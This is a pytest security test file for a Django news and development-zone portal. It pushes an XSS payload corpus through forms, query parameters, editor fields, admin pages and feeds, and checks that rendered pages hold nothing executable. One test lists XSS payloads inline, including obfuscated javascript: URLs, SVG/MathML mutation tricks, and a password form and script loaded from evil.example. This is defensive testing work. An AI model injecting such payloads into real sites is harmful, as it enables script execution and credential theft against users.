"""The XSS corpus (payloads/xss.json) through every way text reaches a page.

Public form fields, the two look-ups, the search box, every query parameter a reader
page declares (`reader_page(params=…)`, found by walking the URLconf) and every field an
editor fills; then the rendered pages, as a browser would parse them (tests/security/
scan.py): reader pages, the message board after a published reply, the look-ups, the
status page, admin change lists and change pages, and the RSS feeds. Nothing executable
may survive. Payloads go in batches so the file runs in well under a minute.
"""

import hashlib
import itertools
import json
import math
from datetime import timedelta
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from associations.models import Association, Industry, Zone
from news.models import Article, MagazineEntry, MagazineIssue, Section
from portal.models import Page
from publicforms.services import Origin
from submissions.models import Message, Submission
from submissions.services.contributions import change_submission_status, create_submission
from submissions.services.messages import create_message, reply_to_message
from tests.security.scan import feed_problems, html_problems

pytestmark = pytest.mark.django_db

CORPUS = json.loads((Path(__file__).parent / "payloads" / "xss.json").read_text("utf-8"))
PAYLOADS = [payload for payloads in CORPUS.values() for payload in payloads]
BATCH = 10
ORIGIN = Origin(ip="203.0.113.9", user_agent="xss-corpus")


def batches(size: int = BATCH) -> list[list[str]]:
    return [PAYLOADS[i : i + size] for i in range(0, len(PAYLOADS), size)]


def fit(text: str, model, field: str) -> str:
    """`text` as it can be stored: NUL never reaches the database (every form refuses it,
    PostgreSQL cannot store it), and at most the field's length."""
    return text.replace("\x00", "")[: model._meta.get_field(field).max_length]


def stored(text: str) -> str:
    return text.replace("\x00", "")


class Pages:
    """Fetches pages and collects what the scanner finds; each distinct body is parsed once."""

    def __init__(self, client):
        self.client = client
        self.found: list[str] = []
        self.seen: set[str] = set()
        self.count = 0

    def check(self, where: str, response) -> None:
        self.count += 1
        assert response.status_code < 500, f"{where}: {response.status_code}"
        if response.status_code in (301, 302):
            return
        digest = hashlib.sha256(response.content).hexdigest()
        if digest in self.seen:
            return
        self.seen.add(digest)
        kind = response["Content-Type"]
        if "xml" in kind:
            problems = feed_problems(response.content)
        else:
            assert "html" in kind, f"{where}: {kind}"
            problems = html_problems(response.content.decode())
        self.found += [f"{where}: {problem}" for problem in problems]

    def get(self, url: str, data=None) -> None:
        self.check(f"GET {url} {data or ''}"[:200], self.client.get(url, data))

    def post(self, url: str, data: dict) -> None:
        self.check(f"POST {url} {data}"[:200], self.client.post(url, data))

    def all_pages_of(self, url: str, data=None) -> None:
        """Every page of a reader list (the pages stop with a 404)."""
        for number in range(1, 100):
            response = self.client.get(url, {**(data or {}), "page": number})
            if response.status_code == 404:
                assert number > 1, f"{url} has no first page"
                return
            self.check(f"GET {url} page {number}", response)
        raise AssertionError(f"{url} does not end")

    def changelist(self, model) -> None:
        """Every page of the model's admin change list (admin pages are `?p=`)."""
        per_page = admin.site.get_model_admin(model).list_per_page
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        for number in range(1, math.ceil(model.objects.count() / per_page) + 1):
            self.get(url, {"p": number})

    def assert_clean(self) -> None:
        assert self.found == [], "\n".join(self.found[:40])


@pytest.fixture
def pages(client):
    return Pages(client)


@pytest.fixture(autouse=True)
def _open_forms(settings, captcha_and_mailbox):
    """The captcha accepts PASSED; rate limits would stop the corpus after a few posts."""
    settings.RATELIMIT_ENABLE = False


# ---------------------------------------------------------------- the scanner itself


@pytest.mark.parametrize(
    "raw",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href=" &#14; javascript:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<iframe src="https://evil.example/"></iframe>',
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<svg><set attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<button formaction="javascript:alert(1)">x</button>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<form action="https://evil.example/"><input name="password"></form>',
        '<div style="width:expression(alert(1))">x</div>',
        '<script src="https://evil.example/x.js"></script>',
        "{{ 31337|add:1 }} → 31338",
    ],
)
def test_the_scanner_finds_what_a_browser_would_run(raw):
    page = f"<!DOCTYPE html><html><head><script src='/static/js/site.js'></script></head><body><p>{raw}</p></body></html>"
    assert html_problems(page)
    assert html_problems(raw, fragment=True)


def test_the_scanner_accepts_our_own_pages(pages):
    pages.get("/messages/new/")
    pages.assert_clean()
    assert len(PAYLOADS) >= 150 and len(set(PAYLOADS)) == len(PAYLOADS)


# ------------------------------------------------------------------ what readers type


@pytest.mark.slow
def test_public_forms_and_lookups_show_every_payload_as_text(pages):
    captcha = {"captcha_0": "k", "captcha_1": "PASSED"}
    for batch in batches():
        # Refused (markup, length, format): every field comes back as typed, as text.
        typed = " ".join(batch)
        message_fields = ("name", "phone", "email", "subject", "content")
        pages.post("/messages/new/", {**dict.fromkeys(message_fields, typed), **captcha})
        contribution_fields = ("title", "author", "organization", "phone", "email", "section")
        pages.post(
            "/contribute/",
            {**dict.fromkeys((*contribution_fields, "body"), typed), "consent": "on", **captcha},
        )
        pages.get("/messages/lookup/", {"code": typed})
        pages.post("/contribute/status/", {"code": typed, "contact": typed})
        # Accepted where markup is allowed: stored as text, never shown as HTML.
        text = "\n".join(batch)
        pages.post(
            "/messages/new/",
            {
                "name": "张三",
                "email": "zhangsan@example.com",
                "subject": "咨询",
                "content": text[:2000],
                **captcha,
            },
        )
        pages.get("/messages/new/done/")
        pages.post(
            "/contribute/",
            {
                "title": text[:120],
                "author": "李四",
                "organization": "某开发区",
                "email": "lisi@example.com",
                "section": Submission.Section.OTHER,
                "body": text,
                "consent": "on",
                **captcha,
            },
        )
        pages.get("/contribute/done/")
    assert Message.objects.exists() and Submission.objects.exists()
    pages.assert_clean()


def reader_routes() -> dict[str, tuple[str, ...]]:
    """Every reader URL name whose view declares query parameters, with those names."""
    found = {}

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                ns = pattern.namespace or ""
                walk(pattern.url_patterns, f"{namespace}{ns}:" if ns else namespace)
            elif isinstance(pattern, URLPattern) and getattr(pattern.callback, "reader_params", ()):
                found[f"{namespace}{pattern.name}"] = pattern.callback.reader_params

    walk(get_resolver().url_patterns)
    return found


@pytest.fixture
def listed_content(db):
    """One of everything a parameterised list shows, so each list renders its filters."""
    section = Section.objects.create(name="国家级开发区动态", slug="national")
    Article.objects.create(
        title="园区新闻",
        section=section,
        status=Article.Status.PUBLISHED,
        publish_at=timezone.now() - timedelta(hours=1),
    )
    zone = Zone.objects.create(
        name="苏州工业园区", province="江苏省", level="national", zone_type="economic"
    )
    zone.industries.add(Industry.objects.create(name="电子信息"))
    Association.objects.create(name="江苏省开发区协会", kind="provincial", province="江苏省")
    MagazineIssue.objects.create(year=2025, number=1, title="园区专题")
    return {"section": section}


@pytest.mark.slow
def test_every_reader_query_parameter_shows_payloads_as_text(pages, listed_content):
    routes = reader_routes()
    assert {"associations:zone_list", "portal:search", "submissions:message_board"} <= set(routes)
    sample_kwargs = {"news:section": {"slug": listed_content["section"].slug}}
    urls = {
        reverse(name, kwargs=sample_kwargs.get(name)): params for name, params in routes.items()
    }
    for url, params in urls.items():
        # Each request carries a different payload in each parameter; after len(PAYLOADS)
        # requests every payload has been in every parameter.
        filters = [p for p in params if p != "page"]
        for i in range(len(PAYLOADS) if filters else 0):
            pages.get(
                url, {p: PAYLOADS[(i + 17 * k) % len(PAYLOADS)] for k, p in enumerate(filters)}
            )
    # `page` alone (a bad page number is a 404 for the whole request), taking turns.
    paged = [url for url, params in urls.items() if "page" in params]
    for i, payload in enumerate(PAYLOADS):
        pages.get(paged[i % len(paged)], {"page": payload})
    pages.get("/no-such-page/", {"q": PAYLOADS[0]})
    pages.assert_clean()


# ----------------------------------------------------------------- what editors write


@pytest.fixture
def editor_content(db):
    """Every payload in every field an editor fills: one article per payload; pages,
    sections, zones, associations and magazine issues with a batch each."""
    now = timezone.now()
    news = Section.objects.create(name="资讯", slug="xss-news")
    for i, payload in enumerate(PAYLOADS):
        Article.objects.create(
            section=news,
            status=Article.Status.PUBLISHED,
            publish_at=now - timedelta(minutes=i + 1),
            title=fit(payload, Article, "title") or "空",
            subtitle=fit(payload, Article, "subtitle"),
            source=fit(payload, Article, "source"),
            author=fit(payload, Article, "author"),
            summary=fit(payload, Article, "summary"),
            body=f"<p>园区</p>{stored(payload)}",
        )
    made = {"news": news, "pages": [], "sections": [], "zones": [], "associations": []}
    for j, batch in enumerate(batches()):
        text = stored("".join(batch))
        html = stored("\n".join(batch))
        made["pages"].append(
            Page.objects.create(
                title=fit(text, Page, "title"),
                slug=f"xss-{j}",
                summary=fit(text, Page, "summary"),
                body=html,
                show_in_nav=j == 0,
            )
        )
        made["sections"].append(
            Section.objects.create(
                name=fit(text, Section, "name"),
                slug=f"xss-page-{j}",
                kind=Section.Kind.PAGE,
                description=fit(text, Section, "description"),
                body=html,
                show_in_nav=j == 0,
            )
        )
        zone = Zone.objects.create(
            name=fit(text, Zone, "name"),
            province="江苏省",
            city=fit(text, Zone, "city"),
            address=fit(text, Zone, "address"),
            level=Zone.Level.NATIONAL,
            zone_type=Zone.Type.ECONOMIC,
            introduction=html,
        )
        zone.industries.add(Industry.objects.create(name=f"{j}{text}"[:30]))
        made["zones"].append(zone)
        made["associations"].append(
            Association.objects.create(
                name=fit(text, Association, "name"),
                kind=Association.Kind.PROVINCIAL,
                province="江苏省",
                contact=fit(text, Association, "contact"),
                phone=fit(text, Association, "phone"),
                address=fit(text, Association, "address"),
                introduction=html,
            )
        )
        issue = MagazineIssue.objects.create(
            year=2000 + j, number=1, title=fit(text, MagazineIssue, "title"), summary=html
        )
        MagazineEntry.objects.create(
            issue=issue,
            column=fit(text, MagazineEntry, "column"),
            title=fit(text, MagazineEntry, "title"),
        )
    return made


@pytest.mark.slow
def test_editor_fields_render_nothing_executable_on_reader_pages_and_feeds(pages, editor_content):
    for article in Article.objects.all():
        pages.get(article.get_absolute_url())
    for obj in itertools.chain(
        editor_content["pages"],
        editor_content["sections"],
        editor_content["zones"],
        editor_content["associations"],
        MagazineIssue.objects.all(),
    ):
        pages.get(obj.get_absolute_url())
    for url in ("/", "/news/", "/feeds/latest/", f"/feeds/{editor_content['news'].slug}/"):
        pages.get(url)
    for url in (editor_content["news"].get_absolute_url(), "/magazine/", "/zones/"):
        pages.all_pages_of(url)
    pages.all_pages_of("/associations/")
    pages.all_pages_of("/search/", {"q": "园区"})
    pages.assert_clean()


@pytest.mark.slow
def test_editor_fields_render_nothing_executable_in_the_admin(
    pages, client, superuser, editor_content
):
    client.force_login(superuser)
    changed = {
        Article: Article.objects.all()[::BATCH],
        Page: editor_content["pages"],
        Section: editor_content["sections"],
        Zone: editor_content["zones"],
        Association: editor_content["associations"],
        Industry: Industry.objects.all(),
        MagazineIssue: MagazineIssue.objects.all(),
    }
    for model, objects in changed.items():
        pages.changelist(model)
        for obj in objects:
            pages.get(
                reverse(
                    f"admin:{model._meta.app_label}_{model._meta.model_name}_change", args=[obj.pk]
                )
            )
    pages.get("/admin/")
    pages.assert_clean()


# ------------------------------------------- the board, the look-ups and the status page


@pytest.mark.slow
def test_board_lookups_status_and_admin_show_payloads_as_text(pages, client, publisher, superuser):
    messages, submissions = [], []
    for payload in PAYLOADS:
        message = create_message(
            name=fit(payload, Message, "name"),
            phone="",
            email="reader@example.org",
            subject=fit(payload, Message, "subject"),
            content=stored(payload),
            origin=ORIGIN,
        )
        reply = f"答复：{stored(payload)}"
        messages.append(reply_to_message(message=message, reply=reply, user=publisher))
        submission = create_submission(
            title=fit(payload, Submission, "title"),
            author=fit(payload, Submission, "author"),
            organization=fit(payload, Submission, "organization"),
            phone="",
            email="author@example.org",
            section=Submission.Section.EXPERIENCE,
            body=stored(payload),
            files=[],
            origin=ORIGIN,
        )
        submissions.append(
            change_submission_status(
                submission=submission,
                status=Submission.Status.REVIEWING,
                note=f"说明：{stored(payload)}",
                user=publisher,
            )
        )
    pages.all_pages_of("/messages/")
    for message in messages:
        pages.get("/messages/lookup/", {"code": message.code})
    for submission in submissions:
        pages.post(
            "/contribute/status/", {"code": submission.tracking_code, "contact": submission.email}
        )
    client.force_login(superuser)
    for model, objects in {Message: messages, Submission: submissions}.items():
        pages.changelist(model)
        for obj in objects[::BATCH]:
            pages.get(
                reverse(
                    f"admin:{model._meta.app_label}_{model._meta.model_name}_change", args=[obj.pk]
                )
            )
    pages.get("/admin/")
    pages.assert_clean()
